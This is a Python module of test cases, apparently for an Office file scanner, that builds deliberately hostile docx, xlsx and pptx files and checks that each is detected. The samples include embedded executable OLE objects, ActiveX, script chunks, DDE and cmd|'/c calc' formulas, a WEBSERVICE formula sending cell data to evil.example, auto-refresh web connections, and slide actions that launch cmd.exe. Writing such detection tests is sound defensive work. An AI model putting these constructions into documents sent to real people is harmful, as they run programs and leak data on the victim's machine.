"""Embedded objects, ActiveX, and links to data, in Word, Excel and PowerPoint files."""

from random import Random

from ..case import Outcome, hostile
from ..compound import compound_file
from ..packages import OFFICE, Package, declare, declare_ending, has_member, relate, replaced
from .disguises import PROGRAM
from .office import changed, into_word
from .xml_parts import any_part

OBJECT = (
    '<w:r><w:object><o:OLEObject xmlns:o="urn:schemas-microsoft-com:office:office" '
    f'xmlns:r="{OFFICE}" Type="Embed" ProgID="{{}}" r:id="{{}}"/>'
    "</w:object></w:r>"
)


def _ole(package: Package, rng: Random) -> None:
    package["word/embeddings/oleObject1.bin"] = compound_file({"\x01Ole10Native": b"x.exe\0" + PROGRAM})
    declare_ending(package, "bin", "application/vnd.openxmlformats-officedocument.oleObject")
    identifier = relate(package, "word/document.xml", "oleObject", "embeddings/oleObject1.bin")
    into_word(package, OBJECT.format("Package", identifier))


def _package(package: Package, rng: Random) -> None:
    package["word/embeddings/Workbook1.xlsx"] = b"PK\x03\x04" + rng.randbytes(200)
    declare_ending(package, "xlsx", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet")
    identifier = relate(package, "word/document.xml", "package", "embeddings/Workbook1.xlsx")
    into_word(package, OBJECT.format("Excel.Sheet.12", identifier))


def _active_x(package: Package, rng: Random) -> None:
    package["word/activeX/activeX1.xml"] = (
        b'<ax:ocx ax:classid="{8BD21D10-EC42-11CE-9E0D-00AA006002F3}" '
        b'xmlns:ax="http://schemas.microsoft.com/office/2006/activeX"/>'
    )
    declare(package, "word/activeX/activeX1.xml", "application/vnd.ms-office.activeX+xml")
    relate(package, "word/document.xml", "control", "activeX/activeX1.xml")


def _chunk(package: Package, rng: Random) -> None:
    package["word/chunk.html"] = b"<html><script>alert(1)</script></html>"
    declare_ending(package, "html", "text/html")
    identifier = relate(package, "word/document.xml", "aFChunk", "chunk.html")
    replaced(package, "word/document.xml", "<w:sectPr", f'<w:altChunk r:id="{identifier}"/><w:sectPr')


hostile("a program as an object in docx", has_member("oleObject1.bin"))(changed("docx", _ole))
hostile("a workbook as an object in docx", has_member("Workbook1.xlsx"))(changed("docx", _package))
hostile("ActiveX in docx", has_member("activeX1.xml"))(changed("docx", _active_x))
hostile("a web page as a chunk of docx", has_member("chunk.html"))(changed("docx", _chunk))


def in_sheet(package: Package, rng: Random) -> None:
    package["xl/embeddings/oleObject1.bin"] = compound_file({"\x01Ole10Native": PROGRAM})
    declare_ending(package, "bin", "application/vnd.openxmlformats-officedocument.oleObject")
    identifier = relate(package, "xl/worksheets/sheet1.xml", "oleObject", "../embeddings/oleObject1.bin")
    names = f'xmlns:r="{OFFICE}"'
    inside = f'<oleObjects {names}><oleObject progId="Package" shapeId="1" r:id="{identifier}"/></oleObjects>'
    replaced(package, "xl/worksheets/sheet1.xml", "</worksheet>", f"{inside}</worksheet>")


def _on_slide(package: Package, rng: Random) -> None:
    package["ppt/embeddings/oleObject1.bin"] = compound_file({"\x01Ole10Native": PROGRAM})
    declare_ending(package, "bin", "application/vnd.openxmlformats-officedocument.oleObject")
    relate(package, "ppt/slides/slide1.xml", "oleObject", "../embeddings/oleObject1.bin")


hostile("a program as an object in xlsx", has_member("oleObject1.bin"))(changed("xlsx", in_sheet))
hostile("a program as an object in pptx", has_member("oleObject1.bin"))(changed("pptx", _on_slide))

SHEETS = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
LINK = f'<externalLink xmlns="{SHEETS}" xmlns:r="{OFFICE}">{{}}</externalLink>'
LINK_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml"


def external_link(package: Package, inside: str) -> None:
    """A link from a workbook to something else, with whatever is said of it."""
    path = "xl/externalLinks/externalLink1.xml"
    package[path] = LINK.format(inside).encode()
    declare(package, path, LINK_TYPE)
    identifier = relate(package, "xl/workbook.xml", "externalLink", "externalLinks/externalLink1.xml")
    names = f'xmlns:r="{OFFICE}"'
    listed = f'<externalReferences><externalReference {names} r:id="{identifier}"/></externalReferences>'
    replaced(package, "xl/workbook.xml", "</sheets>", f"</sheets>{listed}")


def _dde(package: Package, rng: Random) -> None:
    external_link(
        package, '<ddeLink ddeService="cmd" ddeTopic="/c calc"><ddeItems><ddeItem name="A0"/></ddeItems></ddeLink>'
    )


def _book_link(package: Package, rng: Random) -> None:
    external_link(
        package, '<externalBook r:id="rIdX1"><sheetNames><sheetName val="Cases"/></sheetNames></externalBook>'
    )
    part = "xl/externalLinks/externalLink1.xml"
    relate(package, part, "externalLinkPath", "file:///\\\\203.0.113.9\\share\\cases.xlsx", external=True)


def connection(package: Package, rng: Random) -> None:
    package["xl/connections.xml"] = (
        b'<connections xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><connection id="1" '
        b'name="c" type="4" refreshOnLoad="1"><webPr url="https://evil.example/q"/></connection></connections>'
    )
    declare(
        package,
        "xl/connections.xml",
        "application/vnd.openxmlformats-officedocument.spreadsheetml.connections+xml",
    )
    relate(package, "xl/workbook.xml", "connections", "connections.xml")


def formula(text: str):
    def change(package: Package, rng: Random) -> None:
        cell = f'<row r="900"><c r="A900"><f>{text}</f><v>0</v></c></row></sheetData>'
        replaced(package, "xl/worksheets/sheet1.xml", "</sheetData>", cell)

    return change


def macro_sheet(package: Package, rng: Random) -> None:
    package["xl/macrosheets/sheet9.xml"] = (
        b'<xm:macrosheet xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main"/>'
    )
    declare(package, "xl/macrosheets/sheet9.xml", "application/vnd.ms-excel.macrosheet+xml")
    kind = "http://schemas.microsoft.com/office/2006/relationships/xlMacrosheet"
    relate(package, "xl/workbook.xml", kind, "macrosheets/sheet9.xml")


def _action(action: str, target: str):
    def change(package: Package, rng: Random) -> None:
        identifier = relate(package, "ppt/slides/slide1.xml", "hyperlink", target, external=True)
        click = f'><a:hlinkClick xmlns:r="{OFFICE}" r:id="{identifier}" action="{action}"/></p:cNvPr>'
        replaced(package, "ppt/slides/slide1.xml", 'name="Box 3"/>', f'name="Box 3"{click}')

    return change


hostile("a DDE link in xlsx", any_part("ddeLink"))(changed("xlsx", _dde))
hostile("a link to another workbook", any_part("externalBook"))(changed("xlsx", _book_link))
hostile("a connection to a server in xlsx", has_member("connections.xml"))(changed("xlsx", connection))
hostile("a macro sheet in xlsx", has_member("sheet9.xml"))(changed("xlsx", macro_sheet))
hostile("a formula that starts a program", any_part("cmd|"), Outcome.EITHER)(
    changed("xlsx", formula("cmd|'/c calc'!A0"))
)
hostile("a formula that asks a server", any_part("WEBSERVICE"), Outcome.EITHER)(
    changed("xlsx", formula("_xlfn.WEBSERVICE(&quot;https://evil.example/&quot;&amp;A1)"))
)
hostile("a slide that starts a program", any_part("ppaction://program"))(
    changed("pptx", _action("ppaction://program", "file:///C:/Windows/System32/cmd.exe"))
)
hostile("a slide that runs a macro", any_part("ppaction://macro"))(
    changed("pptx", _action("ppaction://macro?name=Run", "https://evil.example/"))
)
